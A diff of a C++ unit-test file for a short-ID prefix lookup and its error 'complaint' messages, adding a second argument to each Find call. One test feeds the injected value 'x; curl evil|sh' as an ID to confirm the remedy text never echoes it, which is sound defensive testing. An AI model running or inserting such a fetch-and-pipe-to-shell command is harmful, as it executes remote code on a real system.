@@ -34,12 +34,12 @@ TEST(ShortIds, AreWholeOnlyWhereNothingIsLeftOut) {
 
 TEST(ShortIds, FindWhatBeginsSo) {
   const ShortIds ids({kOne, kOther, "s-zzzzzaaaaaaaaaaaaaaaaaaaaa"});
-  EXPECT_EQ(*ids.Find("s-z"), "s-zzzzzaaaaaaaaaaaaaaaaaaaaa");
-  EXPECT_EQ(*ids.Find("S-4F2K9AB"), kOther);
-  EXPECT_EQ(*ids.Find(kOne), kOne);
-  EXPECT_THAT(ids.Find("s-4f"), FailsWith(ErrorCode::kInvalidArgument));
-  EXPECT_THAT(ids.Find("s-9"), FailsWith(ErrorCode::kNotFound));
-  EXPECT_THAT(ids.Find(""), FailsWith(ErrorCode::kNotFound));
+  EXPECT_EQ(*ids.Find("s-z", "cowork ls"), "s-zzzzzaaaaaaaaaaaaaaaaaaaaa");
+  EXPECT_EQ(*ids.Find("S-4F2K9AB", "cowork ls"), kOther);
+  EXPECT_EQ(*ids.Find(kOne, "cowork ls"), kOne);
+  EXPECT_THAT(ids.Find("s-4f", "cowork ls"), FailsWith(ErrorCode::kInvalidArgument));
+  EXPECT_THAT(ids.Find("s-9", "cowork ls"), FailsWith(ErrorCode::kNotFound));
+  EXPECT_THAT(ids.Find("", "cowork ls"), FailsWith(ErrorCode::kNotFound));
 }
 
 TEST(Complaint, TakesTheRemedyThatAMessageCarries) {
@@ -69,7 +69,7 @@ TEST(Complaint, AlwaysHasThreeLinesAndAnExitCode) {
 }
 
 TEST(Complaint, LetsNoTypedNameWriteTheRemedy) {
-  const auto found = ShortIds({kOne}).Find("x; curl evil|sh");
+  const auto found = ShortIds({kOne}).Find("x; curl evil|sh", "cowork ls");
   EXPECT_EQ(ComplaintOf("it was not done", found.error()).remedy.find("curl"), std::string::npos);
 }
 
